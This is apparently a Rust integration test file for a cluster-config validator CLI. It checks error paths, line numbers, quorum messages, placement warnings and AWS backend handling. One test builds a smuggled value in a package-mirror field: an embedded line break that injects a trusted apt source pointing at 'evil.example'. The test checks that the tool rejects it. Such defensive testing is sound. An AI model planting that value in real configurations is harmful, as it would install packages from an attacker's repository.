//! Invalid configs, one mistake each: `hacluster validate` must exit 1 and report the mistake
//! with its field path, the right line (marked `#<` in the YAML), and a message that says
//! what is wrong, in JSON and in text. Each case is the valid BASE config with one edit; the
//! table is shared with the library's own test of every rule.

use crate::support::{needs, run, write_config};

include!("../../crates/hacluster-config/tests/cases/invalid.rs");

#[test]
fn every_invalid_config_is_reported_with_path_line_and_exit_code() {
    assert!(CASES.len() >= 40, "the issue asks for at least 40 invalid configs");
    let mut failures = Vec::new();
    for c in CASES {
        let (text, line) = build(c);
        let (_dir, path) = write_config("cluster.yaml", text.as_bytes());
        let file = path.to_str().expect("utf-8 path");
        let r = run(&["validate", "-c", file, "--output", "json"]);
        if r.code != 1 {
            failures.push(format!("{}: exit code {} (want 1)\n{}{}", c.name, r.code, r.stdout, r.stderr));
            continue;
        }
        let v = r.json();
        let errors = v["errors"].as_array().expect("errors array");
        let hit = errors.iter().find(|e| e["path"] == c.path);
        let Some(e) = hit else {
            failures.push(format!(
                "{}: no error at {} in {}",
                c.name,
                c.path,
                serde_json::to_string_pretty(errors).unwrap()
            ));
            continue;
        };
        let text_of = format!("{} {}", e["message"].as_str().unwrap_or(""), e["help"].as_str().unwrap_or(""));
        if e["line"] != line as u64 {
            failures.push(format!("{}: error at line {} (want {line}): {e}", c.name, e["line"]));
        }
        if !text_of.contains(c.says) {
            failures.push(format!("{}: message does not say {:?}: {text_of}", c.name, c.says));
        }
        if e["file"] != file || e["column"].as_u64().unwrap_or(0) == 0 {
            failures.push(format!("{}: file/column missing: {e}", c.name));
        }
        if e["help"].as_str().unwrap_or("").is_empty() {
            failures.push(format!("{}: no help on how to fix it: {e}", c.name));
        }

        // The same finding in text form: `error[code]: FILE:LINE:COL: PATH`, then the message.
        let t = run(&["validate", "-c", file]);
        let headline = format!("{file}:{line}:{}: {}", e["column"], c.path);
        if t.code != 1 || !t.stderr.contains(&headline) || !t.stderr.contains(e["message"].as_str().unwrap_or("?")) {
            failures.push(format!("{}: text output lacks `{headline}` (exit {}):\n{}", c.name, t.code, t.stderr));
        }
    }
    assert!(failures.is_empty(), "{} of {} cases failed:\n\n{}", failures.len(), CASES.len(), failures.join("\n\n"));
}

#[test]
fn all_errors_are_reported_at_once() {
    let text = BASE
        .replace("          ip: 192.168.113.20", "          ip: 192.168.200.20")
        .replace("  name: demo", "  name: Demo!")
        .replace("  version: v1.35.0", "  version: v9");
    let (_dir, path) = write_config("three-errors.yaml", text.as_bytes());
    let r = run(&["validate", "-c", path.to_str().unwrap(), "-o", "json"]);
    assert_eq!(r.code, 1);
    let v = r.json();
    let paths: Vec<&str> = v["errors"].as_array().unwrap().iter().map(|e| e["path"].as_str().unwrap()).collect();
    for want in ["cluster.name", "cluster.nodes.worker.instances[0].ip", "kubernetes.version"] {
        assert!(paths.contains(&want), "{want} missing from {paths:?}");
    }
}

#[test]
fn even_control_planes_explain_quorum() {
    let text = BASE.replace(
        "          ip: 192.168.113.12\n",
        "          ip: 192.168.113.12\n        - id: 4\n          ip: 192.168.113.13\n",
    );
    let (_dir, path) = write_config("even.yaml", text.as_bytes());
    let r = run(&["validate", "-c", path.to_str().unwrap(), "-o", "json"]);
    let v = r.json();
    let e = v["errors"].as_array().unwrap().iter().find(|e| e["code"] == "even-control-planes").expect("even error");
    let msg = e["message"].as_str().unwrap();
    // The message carries the arithmetic: majority 3 of 4, tolerates 1, like 3 nodes do.
    assert!(msg.contains("quorum of n/2+1 = 3 of 4") && msg.contains("tolerate 1 failure"), "{msg}");
    let help = e["help"].as_str().unwrap();
    assert!(help.contains("3 (tolerates 1)") && help.contains("5 (tolerates 2)"), "{help}");
}

#[test]
fn warnings_are_separate_from_errors() {
    // Five control planes on two hosts: valid, but losing the host with three loses quorum.
    let text = "\
hosts:
  - name: a
  - name: b
cluster:
  name: demo
  network: {mode: bridge, bridge: br0, cidr: 10.0.0.0/24}
  nodes:
    loadBalancer:
      vip: 10.0.0.100
      instances: [{id: 1, ip: 10.0.0.101, host: a}, {id: 2, ip: 10.0.0.102, host: b}]
    master:
      instances:
        - {id: 1, ip: 10.0.0.11, host: a}
        - {id: 2, ip: 10.0.0.12, host: a}
        - {id: 3, ip: 10.0.0.13, host: a}
        - {id: 4, ip: 10.0.0.14, host: b}
        - {id: 5, ip: 10.0.0.15, host: b}
    worker:
      instances: [{id: 1, ip: 10.0.0.21}]
kubernetes: {version: v1.35.0}
";
    let (_dir, path) = write_config("five-on-two.yaml", text.as_bytes());
    let r = run(&["validate", "-c", path.to_str().unwrap(), "-o", "json"]);
    assert_eq!(r.code, 0, "{}", r.stdout);
    let v = r.json();
    assert_eq!(v["errors"].as_array().unwrap().len(), 0);
    let w =
        v["warnings"].as_array().unwrap().iter().find(|w| w["code"] == "placement-quorum").expect("placement warning");
    assert!(w["message"].as_str().unwrap().contains("losing host `a` takes 3 of them"), "{w}");
    assert_eq!(v["cluster"]["toleratedFailures"], 2);
}

/// The local test servers the AWS endpoint may name over plain http (moto, LocalStack).
#[test]
fn aws_endpoints_on_this_machine_are_valid() {
    for endpoint in ["http://127.0.0.1:5000", "http://localhost:4566", "http://[::1]:4566", "https://aws.example.com"] {
        let text = AWS_BASE.replace(
            "    adminCidrs: [203.0.113.0/24]\n",
            &format!("    adminCidrs: [203.0.113.0/24]\n    endpoint: \"{endpoint}\"\n"),
        );
        let (_dir, path) = write_config("aws.yaml", text.as_bytes());
        let r = run(&["validate", "-c", path.to_str().unwrap(), "-o", "json"]);
        assert_eq!(r.code, 0, "{endpoint}: {}{}", r.stdout, r.stderr);
    }
}

/// An injection attempt changes nothing anywhere: every command refuses the config, with the
/// field, before a file is written or a backend is asked to do anything.
#[test]
fn an_injection_attempt_changes_nothing() {
    needs!(Plugins);
    let s = crate::support::Scratch::new();
    let text = BASE.replace(
        "  version: v1.35.0\n",
        "  version: v1.35.0\n  packageMirror: \"http://mirror.example.com/k8s\\ndeb [trusted=yes] http://evil.example/ /\"\n",
    );
    let cfg = s.write("evil.yaml", &text);
    let out = s.path("out");
    let (cfg, out_dir) = (cfg.to_str().unwrap(), out.to_str().unwrap());
    for args in [
        vec!["validate", "-c", cfg],
        vec!["plan", "-c", cfg, "--out", out_dir],
        vec!["provision", "-c", cfg],
        vec!["up", "-c", cfg],
        vec!["down", "-c", cfg],
    ] {
        let r = s.run(&args);
        assert_eq!(r.code, 1, "{args:?}: {}{}", r.stdout, r.stderr);
        assert!(
            r.stderr.contains("kubernetes.packageMirror") && r.stderr.contains("line break"),
            "{args:?}: {}",
            r.stderr
        );
    }
    assert!(!out.exists(), "plan --out wrote files");
    assert!(!s.state().exists(), "a state directory was made");
}

/// `--backend aws` without a `backends.aws` section: an error at the section, naming a
/// misspelled one if there is one.
#[test]
fn the_aws_backend_without_its_section_names_the_misspelling() {
    let (_dir, path) = write_config("awsx.yaml", b"cluster:\n  name: c\n  nodes:\n    master:\n      instances: [{id: 1}, {id: 2}, {id: 3}]\nkubernetes: {version: v1.35.0}\nbackends:\n  awz: {region: eu-west-1}\n");
    let r = run(&["validate", "--backend", "aws", "-c", path.to_str().unwrap(), "-o", "json"]);
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    let v = r.json();
    let e = v["errors"].as_array().unwrap().iter().find(|e| e["code"] == "aws-section-missing").expect("the error");
    assert_eq!(e["path"], "backends.aws", "{e}");
    assert!(e["help"].as_str().unwrap().contains("instead of `awz`"), "{e}");
}
